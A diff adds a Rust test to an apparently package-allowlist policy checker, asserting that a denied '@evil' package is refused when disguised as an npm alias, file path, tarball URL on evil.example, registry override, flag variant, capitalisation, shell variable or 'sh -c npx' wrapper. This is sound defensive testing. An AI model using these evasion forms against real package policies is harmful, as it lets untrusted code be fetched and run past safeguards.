@@ -145,6 +145,37 @@ fn the_policy_judges_what_a_definition_really_starts() {
     assert_eq!(read_answer("acme", &hidden, &policy).unwrap().refused[0].reason, "providers.deny.packages has \"evil\"");
 }
 
+#[test]
+fn nothing_passes_a_policy_for_packages_in_a_form_that_hides_what_it_starts() {
+    let list = |name: &str| ProviderPatterns { packages: Some(vec![name.to_owned(), "evil".to_owned()]), ..ProviderPatterns::default() };
+    let allow = ProviderPolicy { allow: list("@acme/*"), deny: list("@evil/*") };
+    let deny = ProviderPolicy { deny: list("@evil/*"), ..ProviderPolicy::default() };
+    let all = json!([
+        { "name": "plain", "package": "@Evil/x" },
+        { "name": "alias", "command": "npx", "args": ["-y", "@acme/good@npm:@evil/x"] },
+        { "name": "file", "command": "npx", "args": ["-y", "@acme/good@file:/tmp/evil"] },
+        { "name": "url", "command": "npx", "args": ["-y", "@acme/good@https://evil.example/x.tgz"] },
+        { "name": "folder", "package": "@acme/good", "cwd": "/tmp/evil" },
+        { "name": "env", "package": "@acme/good", "env": { "npm_config_registry": "https://evil.example" } },
+        { "name": "equals", "command": "npx", "args": ["-y", "--package=@evil/x", "x"] },
+        { "name": "short", "command": "npx", "args": ["-y", "-p=@evil/x", "x"] },
+        { "name": "npm", "command": "npx", "args": ["-y", "npm:@evil/x"] },
+        { "name": "from", "command": "uvx", "args": ["--from=evil", "x"] },
+        { "name": "capitals", "command": "uvx", "args": ["Evil"] },
+        { "name": "variable", "command": "npx", "args": ["-y", "${A:-@evil/x}"], "envRequired": ["A"] },
+        { "name": "shell", "command": "sh", "args": ["-c", "npx -y @evil/x"] },
+    ]);
+    for policy in [&allow, &deny] {
+        let brought = read_answer("acme", &all, policy).unwrap();
+        let passed: Vec<_> = brought.entries.iter().map(Entry::name).collect();
+        assert_eq!((passed, brought.refused.len()), (Vec::<&str>::new(), all.as_array().unwrap().len()));
+    }
+    let honest = json!([{ "name": "a", "package": "@acme/good@1.0.0", "env": { "MODE": "quiet" }, "envRequired": ["ACME_KEY"] }]);
+    for policy in [&allow, &deny] {
+        assert_eq!(read_answer("acme", &honest, policy).unwrap().entries.len(), 1);
+    }
+}
+
 mod any_answer {
     use proptest::prelude::*;
 
